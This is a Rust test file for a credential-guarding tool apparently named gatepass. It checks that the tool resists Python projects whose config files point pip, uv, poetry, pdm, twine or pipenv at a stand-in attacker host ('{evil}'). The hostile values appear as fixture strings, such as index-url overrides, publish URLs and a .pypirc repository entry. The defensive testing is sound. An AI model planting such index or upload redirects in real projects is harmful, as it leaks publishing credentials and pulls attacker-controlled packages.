//! The hostile projects of Python: what they have an index, a source or a repository of gatepass's name say.

use gatepass_core::token::Permission;

use super::projects::attack_all;
use super::{PROJECT, Project};

const PYPROJECT: &str =
    "[project]\nname = \"ours\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tiny\"]\n";

/// A wheel to publish.
const WHEEL: &str = r#"mkdir -p dist; python3 -c '
import zipfile
with zipfile.ZipFile("dist/tiny-1.2.3-py3-none-any.whl", "w") as wheel:
    wheel.writestr("tiny.py", "")
    wheel.writestr("tiny-1.2.3.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.2.3\n")
    wheel.writestr("tiny-1.2.3.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("tiny-1.2.3.dist-info/RECORD", "")'
"#;

#[test]
fn python() {
    let write = Permission::ReadWrite;
    let pip = Project {
        manager: "pip",
        program: "pip",
        script: "pip download --no-deps -r requirements.txt || pip download --no-deps -r ../requirements.txt",
        ..PROJECT
    };
    let uv = Project { manager: "uv", program: "uv", script: "uv lock --no-cache", ..PROJECT };
    let uv_publish = Project { permission: write, script: format!("{WHEEL}uv publish dist/*.whl").leak(), ..uv };
    let index = |table: &str| -> &'static [(&'static str, &'static str)] {
        let text = format!("{PYPROJECT}{table}").leak();
        vec![("pyproject.toml", &*text)].leak()
    };
    let poetry = Project {
        manager: "poetry",
        program: "poetry",
        script: "export PYTHON_KEYRING_BACKEND=keyring.backends.null.Keyring\npoetry lock --no-cache -n",
        ..PROJECT
    };
    let poetry_publish = Project {
        permission: write,
        files: &[("pyproject.toml", "[project]\nname = \"tiny\"\nversion = \"1.2.3\"\n")],
        script: format!(
            "export PYTHON_KEYRING_BACKEND=keyring.backends.null.Keyring\n{WHEEL}poetry publish -n --repository gatepass"
        )
        .leak(),
        ..poetry
    };
    let pdm = Project { manager: "pdm", program: "pdm", script: "export PDM_CHECK_UPDATE=0\npdm lock", ..PROJECT };
    let pdm_publish = Project {
        permission: write,
        files: &[("pyproject.toml", "[project]\nname = \"tiny\"\nversion = \"1.2.3\"\n")],
        script: format!("export PDM_CHECK_UPDATE=0\n{WHEEL}pdm publish --no-build --repository gatepass").leak(),
        ..pdm
    };
    let twine = Project {
        manager: "twine",
        program: "twine",
        permission: write,
        script: format!("{WHEEL}twine upload --non-interactive --repository gatepass dist/*").leak(),
        ..PROJECT
    };
    let pipenv = Project { manager: "pipenv", program: "pipenv", script: "pipenv lock", ..PROJECT };
    attack_all(
        &[
            Project { hostile: &[("requirements.txt", "--index-url http://{evil}/simple\ntiny\n")], ..pip },
            Project { hostile: &[("requirements.txt", "--extra-index-url http://{evil}/simple\ntiny\n")], ..pip },
            Project {
                hostile: index(
                    "[[tool.uv.index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\ndefault = true\n",
                ),
                ..uv
            },
            Project {
                hostile: index(
                    "[[tool.uv.index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\nauthenticate = \"always\"\n",
                ),
                ..uv
            },
            Project {
                files: &[("pyproject.toml", PYPROJECT)],
                hostile: &[("uv.toml", "[[index]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\n")],
                ..uv
            },
            Project { hostile: index("[tool.uv]\npublish-url = \"http://{evil}/\"\n"), ..uv_publish },
            Project {
                hostile: index(
                    "[[tool.poetry.source]]\nname = \"gatepass\"\nurl = \"http://{evil}/simple\"\npriority = \"primary\"\n",
                ),
                applied_is_told: true,
                shown_is_noted: true,
                ..poetry
            },
            Project {
                hostile: index(
                    "[[tool.poetry.source]]\nname = \"GatePass\"\nurl = \"http://{evil}/simple\"\npriority = \"primary\"\n",
                ),
                shown_is_noted: true,
                ..poetry
            },
            Project {
                hostile: &[("poetry.toml", "[repositories.gatepass]\nurl = \"http://{evil}/\"\n")],
                applied_is_told: true,
                ..poetry_publish
            },
            Project {
                variables: &[("POETRY_REPOSITORIES_GATEPASS_URL", "http://{evil}/")],
                applied_is_told: true,
                ..poetry_publish
            },
            Project { hostile: index("[[tool.pdm.source]]\nname = \"pypi\"\nurl = \"http://{evil}/simple\"\n"), ..pdm },
            Project {
                files: &[("pyproject.toml", PYPROJECT)],
                hostile: &[("pdm.toml", "[pypi]\nurl = \"http://{evil}/simple\"\n")],
                ..pdm
            },
            Project { hostile: &[("pdm.toml", "[repository.gatepass]\nurl = \"http://{evil}/\"\n")], ..pdm_publish },
            Project {
                hostile: &[(
                    ".pypirc",
                    "[distutils]\nindex-servers = gatepass\n[gatepass]\nrepository = http://{evil}/\n",
                )],
                ..twine
            },
            Project {
                hostile: &[(
                    "Pipfile",
                    "[[source]]\nname = \"pypi\"\nurl = \"http://{evil}/simple\"\nverify_ssl = true\n[packages]\ntiny = \"*\"\n",
                )],
                ..pipenv
            },
        ],
        58,
    );
}
